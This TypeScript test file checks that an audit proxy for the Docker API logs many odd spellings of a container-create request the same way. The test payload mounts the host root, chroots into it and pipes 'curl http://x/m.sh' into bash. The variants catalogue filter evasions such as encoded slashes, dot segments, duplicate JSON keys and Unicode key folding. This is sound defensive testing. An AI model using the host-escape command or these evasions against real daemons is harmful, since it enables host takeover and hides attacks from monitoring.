// One request, many spellings: a client that spells the URI or the JSON body
// unusually must not get a different audit event than the canonical request,
// and the event must agree with what dockerd itself did (it created the
// container with the host-root bind, or it refused the path). Each variant is
// sent as raw bytes through the proxy, so nothing normalises it on the way.
import type { DockerApiEvent } from '../../schemas/generated/docker-api-event';
import { dockerApi, localServices, skipReason } from '../services/local-services';
import { uniqueName } from './docker-cli';
import { jsonRequest, rawHttp, startProxy, type ProxyHarness } from './proxy-harness';

const services = localServices();
const socket = services.dockerSocket;

const CMD = ['chroot', '/mnt', '/bin/sh', '-c', 'curl -sL4 http://x/m.sh | bash'];
const CANONICAL_BODY = JSON.stringify({
  Image: 'alpine',
  Cmd: CMD,
  HostConfig: { Binds: ['/:/mnt'], NetworkMode: 'none' },
});
const CMD_JSON = JSON.stringify(CMD);

interface Variant {
  name: string;
  /** Path before `?name=` */
  path: string;
  body: string;
  /** What dockerd 20.10 answers to this spelling (observed with curl --path-as-is). */
  dockerd: 201 | 301 | 404;
  /** An anomaly the event must record. */
  anomaly?: string;
}

const VARIANTS: Variant[] = [
  { name: 'canonical', path: '/v1.41/containers/create', body: CANONICAL_BODY, dockerd: 201 },
  { name: 'no version prefix', path: '/containers/create', body: CANONICAL_BODY, dockerd: 201 },
  { name: 'older version prefix', path: '/v1.24/containers/create', body: CANONICAL_BODY, dockerd: 201 },
  {
    name: 'encoded slash %2F',
    path: '/v1.41/containers%2Fcreate',
    body: CANONICAL_BODY,
    dockerd: 201,
    anomaly: 'encoded-slash',
  },
  {
    name: 'encoded letter %63',
    path: '/v1.41/%63ontainers/create',
    body: CANONICAL_BODY,
    dockerd: 201,
    anomaly: 'percent-encoded-path',
  },
  {
    name: 'double slash',
    path: '/v1.41//containers/create',
    body: CANONICAL_BODY,
    dockerd: 301,
    anomaly: 'double-slash',
  },
  {
    name: 'dot segment /./',
    path: '/v1.41/./containers/create',
    body: CANONICAL_BODY,
    dockerd: 301,
    anomaly: 'dot-segments',
  },
  {
    name: 'dot-dot segment /../',
    path: '/v1.41/x/../containers/create',
    body: CANONICAL_BODY,
    dockerd: 301,
    anomaly: 'dot-segments',
  },
  {
    name: 'trailing slash',
    path: '/v1.41/containers/create/',
    body: CANONICAL_BODY,
    dockerd: 404,
    anomaly: 'trailing-slash',
  },
  {
    name: 'letter case',
    path: '/v1.41/CONTAINERS/create',
    body: CANONICAL_BODY,
    dockerd: 404,
    anomaly: 'case-changed',
  },
  {
    name: 'key case',
    path: '/v1.41/containers/create',
    body: `{"image":"alpine","CMD":${CMD_JSON},"hostconfig":{"bInDs":["/:/mnt"],"networkmode":"none"}}`,
    dockerd: 201,
  },
  {
    name: 'duplicate keys (last wins, objects merge)',
    path: '/v1.41/containers/create',
    body:
      `{"Image":"alpine","Cmd":["true"],"HostConfig":{"Binds":["/tmp:/decoy"],"NetworkMode":"none"},` +
      `"Cmd":${CMD_JSON},"HostConfig":{"Binds":["/:/mnt"]}}`,
    dockerd: 201,
  },
  {
    name: '\\u escapes in keys and values',
    path: '/v1.41/containers/create',
    body:
      `{"Im\\u0061ge":"alpine","\\u0043md":${CMD_JSON},` +
      `"\\u0048ost\\u0043onfig":{"\\u0042inds":["\\u002f:\\u002fmnt"],"NetworkMode":"none"}}`,
    dockerd: 201,
  },
  {
    name: 'Unicode case folding (long s in Binds)',
    path: '/v1.41/containers/create',
    body: `{"Image":"alpine","Cmd":${CMD_JSON},"HostConfig":{"Bind\\u017f":["/:/mnt"],"NetworkMode":"none"}}`,
    dockerd: 201,
  },
];

(socket ? describe : describe.skip)(
  socket ? 'proxy collector: request spellings' : skipReason('DOCKER_HOST', 'dockerd'),
  () => {
    let harness: ProxyHarness;
    const created: string[] = [];
    beforeAll(async () => {
      harness = await startProxy({ upstreamSocket: socket! });
    });
    afterAll(async () => {
      for (const n of created) await dockerApi(socket!, 'DELETE', `/containers/${n}?force=1`).catch(() => undefined);
      await harness.close();
    });

    let canonical: DockerApiEvent | undefined;

    it("the proxy measures its own hold of a call: hold + dockerd's time fit inside what the client waited", async () => {
      const cname = uniqueName('dg-hold');
      created.push(cname);
      const t0 = performance.now();
      const res = await rawHttp(
        harness.port,
        jsonRequest('POST', `/v1.41/containers/create?name=${cname}`, '{"Image":"alpine","Cmd":["true"]}'),
      );
      const waited = performance.now() - t0;
      expect(res.status).toBe(201);
      const hold = harness.holds.find((h) => h.path.includes(cname));
      expect(hold).toBeDefined();
      expect(hold!.method).toBe('POST');
      expect(hold!.daemonMs).toBeGreaterThan(0);
      expect(hold!.holdMs).toBeGreaterThanOrEqual(0);
      expect(hold!.holdMs + hold!.daemonMs).toBeLessThanOrEqual(waited);
    });

    it.each(VARIANTS)('$name', async (v) => {
      const cname = uniqueName('dg-spell');
      created.push(cname);
      const res = await rawHttp(harness.port, jsonRequest('POST', `${v.path}?name=${cname}`, v.body));
      expect(res.status).toBe(v.dockerd);
      const ev = await harness.waitFor((e) => e.source.port === res.localPort, v.name);
      canonical ??= ev;

      // The same endpoint and parameters as the canonical request.
      expect(ev.dockguard.endpoint).toBe('/containers/create');
      expect(ev.dockguard.container?.binds).toEqual(['/:/mnt']);
      expect(ev.process.args).toEqual(CMD);
      expect(ev.container.image.name).toBe('alpine');
      expect(ev.url.original).toBe(`${v.path}?name=${cname}`);
      expect(ev.http.response.status_code).toBe(v.dockerd);
      if (v.anomaly) expect(ev.dockguard.anomalies).toContain(v.anomaly);
      expect(ev.dockguard.container).toEqual(canonical.dockguard.container);

      // And dockerd did what the event says.
      const inspect = await dockerApi(socket!, 'GET', `/containers/${cname}/json`);
      if (v.dockerd === 201) {
        expect(inspect.status).toBe(200);
        const c = inspect.json<{ Id: string; HostConfig: { Binds: string[] }; Path: string; Args: string[] }>();
        expect(c.HostConfig.Binds).toEqual(['/:/mnt']);
        expect([c.Path, ...c.Args]).toEqual(CMD);
        expect(ev.container.id).toBe(c.Id);
        expect(ev.event.outcome).toBe('success');
      } else {
        expect(inspect.status).toBe(404);
        expect(ev.container.id).toBeNull();
        expect(ev.event.outcome).toBe('failure');
      }
    });
  },
);
